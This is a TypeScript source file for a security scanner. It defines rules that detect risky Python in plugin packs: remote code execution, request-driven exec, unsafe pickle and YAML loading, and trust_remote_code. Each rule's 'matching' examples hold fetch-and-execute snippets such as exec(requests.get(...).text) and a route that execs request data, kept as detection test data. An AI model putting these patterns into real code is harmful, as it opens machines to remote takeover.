import type { Hit } from '../../ground/finding.ts'
import { unpickles } from '../flow/call-tables.ts'
import { argumentOf, argumentsOf, isSet } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { isModelHost, outerHostOf } from '../flow/hosts.ts'
import { names } from '../flow/names.ts'
import { has, isMade, mixAll, type Value } from '../flow/values.ts'
import { callHits, codeOf, fileOf, moreSerious } from './code-calls.ts'
import {
  disguisedCode,
  escapedCode,
  hiddenCall,
  hiddenCode,
  machineCode,
  marshalled,
  runsOtherFile,
} from './hidden-code.ts'
import type { CodeRule } from './rule.ts'

const downloadedCode: CodeRule = {
  of: 'python',
  id: 'downloaded-code',
  severity: 'critical',
  why: 'The owner of that address controls every machine that has the pack.',
  fix: 'Put the code into the pack, where it can be read and checked.',
  examples: {
    matching: [
      'import requests\nexec(requests.get("https://example.test/x").text)',
      'from urllib.request import urlopen as o\ndef f():\n    data = o("https://example.test").read()\n    code = data.decode()\n    exec(code)',
      'import requests as r\nbody = r.get(u).content\n__import__("builtins").exec(body)',
      'import requests\ndef fetch(u):\n    return requests.get(u).text\ndef go(code):\n    run = exec\n    run(code)\ngo(fetch("https://example.test"))',
      'import requests\nclass A:\n    def load(self):\n        self.code = requests.get(u).text\n    def go(self):\n        eval(self.code)',
      'import requests, runpy\nopen("/tmp/a.py", "w").write(requests.get(u).text)\nrunpy.run_path("/tmp/a.py")',
      'import threading, requests\nthreading.Thread(target=exec, args=(requests.get(u).text,)).start()',
      'import requests\nclass A:\n    def __init__(self):\n        self.code = requests.get(u).text\n    def go(self):\n        eval(self.code)\nA()',
      'import urllib.request, importlib.util\nurllib.request.urlretrieve(u, p)\nimportlib.util.spec_from_file_location("m", p)',
      'import requests\nfrom torch.utils.cpp_extension import load_inline\nload_inline("x", requests.get(u).text)',
      'import urllib.request as r, onnxruntime as o\nr.urlretrieve(u, "a.so")\no.SessionOptions().register_custom_ops_library("a.so")',
      'import sys\nfrom huggingface_hub import snapshot_download\nsys.path.append(snapshot_download("a/b"))',
    ],
    harmless: [
      'import requests\ndata = requests.get("https://example.test").json()\nprint(data)',
      'import requests\ndef a():\n    text = requests.get(u).text\ndef b(text):\n    return eval("1 + 1")',
      'import requests, json\nv = json.loads(requests.get(u).text)\nn = eval("2 * 3")',
      'import requests, re\np = re.compile(requests.get(u).text)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const source = compilesSource.test(call.name) ? mixAll(argumentsOf(call)) : codeOf(call)
      if (/^httpimport\.\w+$/.test(call.name)) return { message: 'Imports modules from an address.' }
      if (has(source, 'network', 'hub', 'download'))
        return { message: `\`${call.name}\` runs what comes from the network.` }
      if (fillsTemplate.test(call.name) && has(mixAll(argumentsOf(call)), 'network', 'download'))
        return {
          message: 'Fills a template from the network, which can reach all of Python.',
          severity: 'high',
        }
      if (!has(fileOf(call), 'network', 'hub', 'download')) return undefined
      // A name can only load an installed module.
      return /^(__import__|importlib\.import_module)$/.test(call.name)
        ? { message: 'Loads a module whose name comes from the network.', severity: 'medium' }
        : { message: `\`${call.name}\` loads code that was downloaded.` }
    }),
}

/** Expressions in such a template reach everything unless it is sandboxed. */
const fillsTemplate = names(/^jinja2\.(Template|Environment\(\)\.from_string)$/)

/** Compiles a text in another language, or a template that may contain code, and runs the result. */
const compilesSource = names(
  /^(mako\.template\.Template|torch\.utils\.cpp_extension\.load_inline|cffi\.FFI\(\)\.(verify|set_source)|cppyy\.cppdef|weave\.inline)$/,
)

const requestCode: CodeRule = {
  of: 'python',
  id: 'request-code',
  severity: 'high',
  why: 'Anyone who reaches the tool’s server can run code, such as a web page that its user opens.',
  fix: 'Allow only fixed actions, and check the arguments of requests.',
  examples: {
    matching: [
      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    exec(data["code"])',
    ],
    harmless: [
      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    print(data["code"])',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) =>
      (has(codeOf(call), 'request', 'private') && call.name !== 'compile') || has(fileOf(call), 'request')
        ? { message: `\`${call.name}\` runs what a request holds.` }
        : undefined,
    ),
}

const dynamicCode: CodeRule = {
  of: 'python',
  id: 'dynamic-code',
  severity: 'medium',
  why: 'A shared workflow can contain the text that is run here.',
  fix: 'Parse the input with `ast.literal_eval` or a small parser of your own.',
  examples: {
    matching: [
      'def f(text):\n    return eval(text)',
      'exec(open("x.py").read())',
      'code = compile(source, "x", "exec")',
    ],
    harmless: [
      'eval("1 + 1")',
      'model.eval()',
      'import re\nre.compile(x)',
      'import torch\ntorch.compile(model)',
      'import ast\nast.literal_eval(x)',
      'import ast\ndef f(t):\n    tree = ast.parse(t)\n    compile(tree, "x", "eval")',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (!code || !isMade(code)) return undefined
      if (has(code, 'network', 'decoded', 'hub', 'download', 'request')) return undefined
      if ((has(code, 'data') && call.name !== 'eval') || runsOtherFile(call, code)) return undefined
      // Formula nodes check their input by compiling parsed code.
      if (call.name === 'compile' && code.names.includes('ast.parse()')) return undefined
      return { message: `\`${call.name}\` runs a text that is made while the pack runs.` }
    }),
}

export const pickled: CodeRule = {
  of: 'python',
  id: 'pickled-data',
  severity: 'low',
  why: 'Loading a pickle runs code, so a file from elsewhere can take over the machine.',
  fix: 'Use safetensors or JSON, or `torch.load(…, weights_only=True)`.',
  examples: {
    matching: [
      'import pickle\npickle.load(f)',
      'import dill\ndill.loads(x)',
      'import pickle, requests\npickle.loads(requests.get(u).content)',
      'import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)',
      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p)',
    ],
    harmless: [
      'import pickle\npickle.dump(x, f)',
      'import json\njson.load(f)',
      'import yaml\nyaml.safe_load(f)',
      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p, weights_only=True)',
      'import torch\ntorch.load(p)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const from = argumentOf(call, 0, 'f', 'file', 'stream')
      if (/^torch\.load$|^(numpy|np)\.load$/.test(call.name)) return modelHit(call, from)
      if (/(^|\.)load_state_dict_from_url$/.test(call.name))
        return call.keywords.get('weights_only')?.number === 0 && isForeign(argumentOf(call, 0, 'url'))
          ? strangeWeights
          : undefined
      if (loadsLayers.test(call.name) && call.keywords.get('safe_mode')?.number === 0)
        return has(from, 'network', 'download', 'stranger')
          ? { message: 'Loads a model from elsewhere whose layers can hold code.', severity: 'high' }
          : { message: 'Loads a model whose layers can hold code.' }
      const isYaml = /^yaml\.(load|load_all)$/.test(call.name) && !isSafeYaml(call)
      if (!unpickles.test(call.name) && !isYaml) return undefined
      const what = isYaml || call.name.startsWith('yaml') ? 'objects from YAML' : 'a pickle'
      return has(from, 'network', 'download') || isForeign(from)
        ? { message: `Loads ${what} that comes from the network.`, severity: 'high' }
        : has(from, 'decoded') && !(has(from, 'file') && writesPickles(facts.text))
          ? { message: `Loads ${what} that is decoded first.`, severity: 'high' }
          : { message: `Loads ${what} with \`${call.name}\`.` }
    }),
}

/** Some libraries fetch an address themselves. */
function isForeign(from: Value | undefined): boolean {
  return from?.texts.some((text) => outerHostOf(text) !== '' && !isModelHost(text)) === true
}

/** Keras runs code in layers when its safe mode is off. */
const loadsLayers = names(/(^|\.)(load_model|model_from_json)$/)

/** A pack that compresses its own objects reads them back in the same way. */
function writesPickles(text: string): boolean {
  return /\b(pickle|dill|cloudpickle|joblib)\.dumps?\b/.test(text)
}

function isSafeYaml(call: Call): boolean {
  const loader = argumentOf(call, 1, 'Loader')
  return loader === undefined || !loader.names.some((name) => /Unsafe|^yaml\.(Loader|CLoader)$/.test(name))
}

/** Weights from a private server differ from those of a hub, which shows who uploaded them. */
function modelHit(call: Call, from: Value | undefined): Omit<Hit, 'line'> | undefined {
  const isSafe = call.name === 'torch.load' ? isSet(call, 'weights_only') : !isSet(call, 'allow_pickle')
  // Authors who turn the check off for a downloaded file know that it contains code.
  const isOff = call.keywords.get('weights_only')?.number === 0 && !has(from, 'hub')
  if (isSafe) return undefined
  if (isForeign(from)) return strangeWeights
  return has(from, 'network', 'download') && (has(from, 'stranger') || isOff) ? strangeWeights : undefined
}

const strangeWeights = {
  message: 'Loads weights, which can hold code, from a server that is not a known hub of models.',
  severity: 'high',
} as const

const remoteModelCode: CodeRule = {
  of: 'python',
  id: 'remote-model-code',
  severity: 'low',
  why: 'The code of that repository runs here, and its owner can change it at any time.',
  fix: 'Name a revision, or put the code into the pack.',
  examples: {
    matching: [
      'import torch\ntorch.hub.load("acme/model", "big")',
      'from transformers import AutoModel\nAutoModel.from_pretrained("acme/model", trust_remote_code=True)',
    ],
    harmless: [
      'import torch\ntorch.hub.load_state_dict_from_url("https://example.test/x")',
      'AutoModel.from_pretrained("acme/model")',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (call.name === 'torch.hub.load' && argumentOf(call, 2, 'source')?.texts[0] !== 'local')
        return { message: 'Runs the code of a repository that `torch.hub` fetches.', ...moreSerious(call) }
      return isSet(call, 'trust_remote_code') &&
        /from_pretrained$|^(transformers\.)?pipeline$/.test(call.name)
        ? { message: 'May run code that comes with a model.', ...moreSerious(call) }
        : undefined
    }),
}

export const downloadsCode: CodeRule = {
  of: 'python',
  id: 'code-download',
  severity: 'medium',
  why: 'Code that is downloaded later was not there when the version was checked.',
  fix: 'Put the code into the pack, or depend on a released package.',
  examples: {
    matching: [
      'import urllib.request\nurllib.request.urlretrieve("https://example.test/tool.exe", p)',
      'import git\ngit.Repo.clone_from("https://example.test/x", p)',
    ],
    harmless: [
      'import urllib.request\nurllib.request.urlretrieve("https://example.test/model.safetensors", p)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (/clone_from$/.test(call.name)) return { message: 'Fetches a repository while it runs.' }
      if (
        !/(^|\.)(urlretrieve|download_url_to_file|urlopen)$|^requests\.get$|^wget\.download$/.test(call.name)
      )
        return undefined
      const address = argumentOf(call, 0, 'url')?.texts.find((text) =>
        /\.(py|pyd|exe|dll|so|bat|ps1|sh|msi|scr|vbs|jar|whl)([?#]|$)/i.test(text),
      )
      return address === undefined
        ? undefined
        : {
            message: `Downloads ${isModelHost(address) ? 'a program' : 'a program from a server of its own'}.`,
          }
    }),
}

export const codeRules = [
  downloadedCode,
  machineCode,
  hiddenCode,
  requestCode,
  dynamicCode,
  disguisedCode,
  marshalled,
  hiddenCall,
  pickled,
  remoteModelCode,
  escapedCode,
  downloadsCode,
]
